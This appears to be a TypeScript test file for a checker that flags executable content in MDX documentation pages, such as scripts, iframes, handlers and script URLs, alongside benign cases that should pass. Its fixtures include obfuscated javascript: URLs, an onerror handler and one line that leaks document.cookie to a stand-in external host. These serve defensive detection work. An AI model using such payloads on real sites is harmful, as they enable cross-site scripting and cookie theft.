// biome-ignore-all lint/suspicious/noTemplateCurlyInString: pages have templates of their own
import { describe, expect, it } from 'vitest';
import type { CodeKind } from '../../../../src/check/docs/page.ts';
import { parsePage } from '../../../../src/check/docs/parse-page.ts';

const code = (text: string) => parsePage(text, 'a.mdx').code;

describe('what would be executed', () => {
  it.each<[string, CodeKind]>([
    ['<script>{`go()`}</script>', 'script'],
    ['<script src="https://x.example/y.js" />', 'script'],
    ['<svg><script>go</script></svg>', 'script'],
    ['<iframe src="https://x.example" />', 'frame'],
    ['<iframe src="https://www.youtube.com.x.example/embed/1" />', 'frame'],
    ['<iframe src={url} />', 'frame'],
    ['<iframe src="https://www.youtube.com/embed/1" src="https://x.example" />', 'frame'],
    ['<object data="/x.svg" />', 'frame'],
    ['<embed src="/x" />', 'frame'],
    ['<base href="https://x.example" />', 'document'],
    ['<link rel="stylesheet" href="https://x.example/a.css" />', 'document'],
    ['<meta httpEquiv="refresh" http-equiv="refresh" content="0" />', 'document'],
    ['<button onClick={go}>x</button>', 'handler'],
    ['<img src="/x.png" onerror="go()" />', 'handler'],
    ['<Card onMouseOver={go} />', 'handler'],
    ['<div dangerouslySetInnerHTML={{ __html: "<b>" }} />', 'raw-html'],
    ['<a href="javascript:go()">x</a>', 'script-url'],
    ['<a href=" java&#x09;script:go()">x</a>', 'script-url'],
    ['<a href={"java" + "script:go()"}>x</a>', 'script-url'],
    ['<Card href="vbscript:go" />', 'script-url'],
    ['<a href="data:text/html,<b>">x</a>', 'script-url'],
    ['[x](javascript:go)', 'script-url'],
    ['[x](<java&Tab;script:go>)', 'script-url'],
    ['[x][y]\n\n[y]: JavaScript:go', 'script-url'],
    ['import A from "./a.jsx"', 'import'],
    ['import A from "react"', 'import'],
    ['import A from "https://x.example/a.mdx"', 'import'],
    ['import A from "//x.example/a.mdx"', 'import'],
    ['export { a } from "./a.js"', 'import'],
    ['export * from "x"', 'import'],
    ['export const A = () => <b>x</b>', 'function'],
    ['export function A() { return 1 }', 'function'],
    ['export const a = go()', 'expression'],
    ['export default go(1)', 'expression'],
    ['{[1].map(String)}', 'expression'],
    ['{new Date}', 'expression'],
    ['{a = 1}', 'expression'],
    ['{a++}', 'expression'],
    ['{`${go()}`}', 'expression'],
    ['{go`x`}', 'expression'],
    ['{import("x")}', 'expression'],
    ['{(() => 1)}', 'function'],
    ['<Card title={go()} />', 'expression'],
    ['{window.name}', 'global'],
    ['{document}', 'global'],
    ['{[fetch]}', 'global'],
    ['{import.meta.url}', 'global'],
    ['<Card {...props} />', 'spread'],
    ['<Card {...{ title: "a" }} />', 'spread'],
    ['{<p {...{ hidden: true }} />}', 'spread'],
    ['{[...{ [Symbol.iterator]: go }]}', 'spread'],
    ['export const El = "script"\n\n<El>{`go()`}</El>', 'expression'],
    ['export const el = "b"\nexport { el as El }', 'expression'],
    ['export const kit = { frame: "iframe" }\n\n<kit.frame src="/a" />', 'expression'],
    ['import { el as El } from "/snippets/a.mdx"\n\n<El>a</El>', 'expression'],
    ['import * as Kit from "/snippets/a.mdx"\n\n<Kit.El>a</Kit.El>', 'expression'],
    ['<props.as>a</props.as>', 'expression'],
    ['<Card components={{ p: "script" }} />', 'expression'],
    ['<Card as="iframe" />', 'expression'],
    ['export default "noscript"', 'expression'],
    ['export { a as default } from "/snippets/a.mdx"', 'expression'],
    ['export { default } from "/snippets/a.mdx"', 'expression'],
    ['export { window } from "/snippets/a.mdx"\n\n{window.name}', 'global'],
    ['export const [a] = ["b"]', 'expression'],
    ['{"go()" instanceof { a: 1 }}', 'expression'],
    ['{`${{ toString: 1 }}`}', 'expression'],
    ['{"a".constructor}', 'expression'],
    ['{[1][props.name]}', 'expression'],
    ['<img src={`https://x.example/?${top.document.cookie}`} />', 'global'],
    ['{top.name}', 'global'],
    ['<Card>{{ parent }}</Card>', 'global'],
    ['<Card bar={baz} />', 'undefined'],
    ['{baz.length}', 'undefined'],
    ['Call {name}', 'placeholder'],
    ['<div ref={props.go} />', 'handler'],
    ['<a href={true ? "javascript:go()" : ""}>x</a>', 'script-url'],
    ['<a href={["javascript:go()"][0]}>x</a>', 'script-url'],
    ['export const link = "javascript:go()"', 'script-url'],
    ['export const link = { a: "java" + `script:go()` }', 'script-url'],
    ['<a href={`${props.a}script:go()`}>x</a>', 'expression'],
    ['<a href={"java" + props.a}>x</a>', 'expression'],
    ['<a href={`//${props.host}`}>x</a>', 'expression'],
    ['<a href={`https://x.example${props.host}`}>x</a>', 'expression'],
    ['<svg><animate attributeName="href" values="#;javascript:go()" /></svg>', 'script-url'],
    ['<style>{`.a { color: red }`}</style>', 'document'],
    ['<meta name="robots" content="noindex" />', 'document'],
    ['<noscript>a</noscript>', 'document'],
    ['<title>a</title>', 'document'],
    ['<form action="/a">a</form>', 'document'],
    ['{[...items]}', 'spread'],
  ])('%s', (text, kind) => {
    const page = parsePage(`# T\n\n${text}\n`, 'a.mdx');
    expect(page.problem).toBeUndefined();
    expect(page.code[0]).toMatchObject({ kind });
  });

  it('has text and line, and not what stands in it again', () => {
    const text = `---
title: a
---

export const A = () => (
  <button onClick={() => go()}>x</button>
)

<p
  onClick={go}
>
  Long text
</p>
`;
    expect(code(text)).toMatchObject([
      { kind: 'function', text: expect.stringMatching(/^export const A[\s\S]*\)$/), line: 5 },
      { kind: 'handler', text: 'onClick={go}', line: 10 },
    ]);
  });

  it('does not change with what stands in an element', () => {
    const frame = (inside: string) => code(`<iframe src="https://x.example">${inside}</iframe>`);
    expect(frame('a')).toEqual(frame('b'));
  });

  it('has what the page declares and it names', () => {
    const text =
      'export const a = "x"\nexport const b = { c: a }\nexport const d = 1\n\n<div dangerouslySetInnerHTML={{ __html: b.c }} />';
    expect(code(text)).toMatchObject([
      { uses: ['export const b = { c: a }', 'export const a = "x"'] },
    ]);
    expect(code('import { a } from "/b.mdx"\n\n{a.go()}')).toMatchObject([
      { uses: ['import { a } from "/b.mdx"'] },
    ]);
    expect(code('{a()}')).toMatchObject([{ uses: [] }]);
  });

  it('has a digest of very many declarations', () => {
    const chain = Array.from({ length: 60 }, (_, at) => `export const a${at} = [a${at + 1}]`);
    const used = (last: string) =>
      code(`${chain.join('\n')}\nexport const a60 = "${last}"\n\n{go(a0)}`).at(-1)?.uses;
    expect(used('x')).toHaveLength(1);
    expect(used('x')).toEqual(used('x'));
    expect(used('x')).not.toEqual(used('y'));
  });

  it('is found in HTML that others may import', () => {
    expect(code('export const a = "<img src=x onerror=go()>"')).toMatchObject([
      { kind: 'raw-html' },
    ]);
    expect(code('export const a = "<b>x</b> and a < b"')).toEqual([]);
  });

  it('is found in constants', () => {
    const text = 'export const a = "javascript"\n\n<a href={`${a}:go()`}>x</a>';
    expect(code(text)).toMatchObject([{ kind: 'script-url', line: 3 }]);
  });
});

describe('what is ordinary', () => {
  it.each([
    'import A from "/snippets/a.mdx"\n\n<A name="x" count={3} />',
    'import { version } from "../a.md"\n\nVersion {version}.',
    'export const a = { b: ["c", 1, null, -1, true], d: `e` }\n\n{a.b} {a["d"]}',
    'export const window = "oak"\n\n{window.length}',
    '{/* a comment: window.go() */}',
    '{user.name ?? "you"} {props.a ? props.b : 2} {props.a && <b>x</b>} {1 + 2}',
    'Call {props} with {{version}}, {`Version ${1} of ${props.name}`} and {"at " + props.count}',
    '<Card title="javascript: the good parts" icon="rocket" href="/a" cols={2} once />',
    '<Frame caption="a"><img src="/a.png" style={{ width: "50%" }} className="x" /></Frame>',
    '<iframe className="w-full" src="https://www.youtube.com/embed/abc" allowFullScreen></iframe>',
    '<iframe src={\'https://player.vimeo.com/video/1\'} title="a" />',
    '<video autoPlay muted src="/a.mp4" />',
    '<img src="data:image/png;base64,AAAA" />',
    'import { Field as F, Mark } from "/snippets/a.mdx"\n\n<F /> <Mark href="/a" />',
    'export const Colour = "red"\n\n{Colour}',
    'export const base = "https://x.example"\n\n<a href={`${base}/a`}>a</a> <a href={`/a/${props.b}`}>b</a>',
    '<Badge as="span">a</Badge> <Step component="li" />',
    '<svg><title>a</title></svg>',
    '<svg><animate attributeName="cx" to="5" /></svg>',
    '<Tabs><Tab title="onClick">`onclick="go()"`</Tab></Tabs>',
    '```html\n<script>go()</script>\n```',
    '```jsx\nexport const A = () => fetch("x")\n```',
    '[a](https://x.example/javascript:go) [b](/data:text/html)',
    '<Accordion title={"a"} open={true}>x</Accordion>',
    '$\\frac{go()}{2}$',
  ])('%s', (text) => {
    const page = parsePage(text, 'a.mdx');
    expect(page.problem).toBeUndefined();
    expect(page.code).toEqual([]);
  });
});
